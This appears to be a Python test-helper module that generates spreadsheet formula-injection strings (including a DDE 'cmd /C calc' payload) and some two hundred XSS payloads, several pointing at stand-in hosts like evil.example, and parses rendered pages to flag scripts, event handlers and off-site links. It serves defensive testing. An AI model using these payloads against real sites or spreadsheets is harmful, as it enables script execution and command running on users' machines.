"""What people type to make the software of others run something: their spreadsheets, and the pages that show what was typed."""

import json
import re
from functools import cache
from html.parser import HTMLParser
from itertools import product

HOSTILE = [
    "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", " =1", "＝1", "＋1", "－1", "＠x", "\u3000=1", "x\n=1", "x;=1",
    '"=1', "=1\u202e", "''=1", '=HYPERLINK("http://evil","x")',
]  # fmt: skip
BEGINS = re.compile(r"^[\s\x00\ufeff\u200b]*[=+\-@＝＋－＠]|^[\t\r]")
"""How a cell begins that would be run."""

_WAYS_OUT = (
    "", '"', "'", ">", '">', "'>", "`", "-->", "</p>", "</title>", "</script>", "</option>", "</textarea>", "</style>",
)  # fmt: skip
"""How a text leaves the place where it is shown."""
_DEEDS = (
    "<script>boom()</script>", "<img src=x onerror=boom()>", "<svg onload=boom()>", "<svg/onload=boom()>", "<iframe srcdoc=boom()>",
    "<details open ontoggle=boom()>", "<input autofocus onfocus=boom()>", "<a href=javascript:boom()>x</a>", "<base href=//evil.example>",
    "<object data=javascript:boom()>", "<video src=x onerror=boom()>", "<p style=color:red>x</p>", "<form action=//evil.example>",
)  # fmt: skip
_ALONE = (
    '" onmouseover=boom() x="', "' onfocus=boom() autofocus x='", '" style="background:url(//evil)', "javascript:boom()", "JaVaScRiPt:boom()",
    "java\tscript:boom()", "data:text/html,<script>boom()</script>", "vbscript:boom()", "&#106;avascript:boom()", "{{ 7 * 7 }}", "{% raw %}",
    "${boom()}", "<%= boom() %>", "%3Cscript%3Eboom()%3C/script%3E", "&lt;script&gt;boom()&lt;/script&gt;", "\\u003cscript\\u003eboom()",
    "＜script＞boom()＜/script＞", "<scr<script>ipt>boom()</scr</script>ipt>", "<!--<img src=--><img src=x onerror=boom()>", "]]><svg onload=boom()>",
    "<math><mtext></p><img src=x onerror=boom()>", "<div hx-get=//evil hx-trigger=load>", "<b hx-on:load=boom()>", "<b data-hx-on:load=boom()>",
)  # fmt: skip
MARKUP: tuple[str, ...] = tuple(way + deed for way, deed in product(_WAYS_OUT, _DEEDS)) + _ALONE
"""Some two hundred ways to make a page run `boom()`, load from elsewhere or look different."""

_ADDRESS = re.compile(r"(?:https?://|mailto:|tel:|[/?#]|$)", re.IGNORECASE)
_ELSEWHERE = {"iframe", "object", "embed", "base", "frame", "applet", "portal"}
_OWN_SCRIPT = re.compile(r"/static/[0-9a-f]{12}/[a-z/.-]+\.js|/widget\.js")
_DATA = {"type": "application/ld+json"}
_OUT_OF_A_FRAME = {"target": "_top"}


@cache
def packed(most: int) -> tuple[str, ...]:
    """All of `MARKUP` that fits, several to a text of at most this many characters."""
    texts = [""]
    for one in MARKUP:
        if len(one) > most:
            continue
        joined = f"{texts[-1]} {one}".strip()
        texts = [*texts[:-1], joined] if len(joined) <= most else [*texts, one]
    return tuple(texts)


def nasty(most: int, number: int) -> str:
    """The text of this number for a field of at most so many characters."""
    texts = packed(most)
    return texts[number % len(texts)]


class _Page(HTMLParser):
    """What a browser would run, load or follow of a page."""

    def __init__(self) -> None:
        super().__init__()
        self.dangers: list[str] = []
        self.data: str | None = None

    def handle_data(self, data: str) -> None:
        if self.data is not None:
            self.data += data

    def handle_endtag(self, tag: str) -> None:
        """A script that is data holds one object, whole, and no tag that a browser might read otherwise."""
        if tag == "script" and self.data is not None:
            try:
                is_data = isinstance(json.loads(self.data), dict) and "<" not in self.data
            except ValueError:
                is_data = False
            if not is_data:
                self.dangers.append(f"<script> of {self.data}")
            self.data = None

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = dict(attrs)
        if tag == "script" and given == _DATA:
            self.data = ""
        elif tag == "script" and not _OWN_SCRIPT.fullmatch(given.get("src") or ""):
            self.dangers.append(f"<script {given}>")
        if (tag in _ELSEWHERE and given != _OUT_OF_A_FRAME) or (tag == "meta" and given.get("http-equiv")):
            self.dangers.append(f"<{tag}>")
        self.dangers += [
            f"{tag} {name}" for name in given if name.startswith("on") or name == "style" or "hx-on" in name
        ]
        for name in (
            "href",
            "src",
            "srcset",
            "action",
            "formaction",
            "poster",
            "hx-get",
            "hx-post",
            "data-href",
        ):
            if name in given and not _ADDRESS.match(given[name] or ""):
                self.dangers.append(f"{tag} {name}={given[name]}")
        action = given.get("formaction") or given.get("action") or "/"
        if not re.match(r"/(?!/)|#|\?", action):
            self.dangers.append(f"{tag} sends to {action}")


def dangers(page: str) -> list[str]:
    """What must not be in any page of ours, however hostile the texts in it are."""
    seen = _Page()
    seen.feed(page)
    return seen.dangers + [one for one in MARKUP if "<" in one and "boom()" in one and one in page]
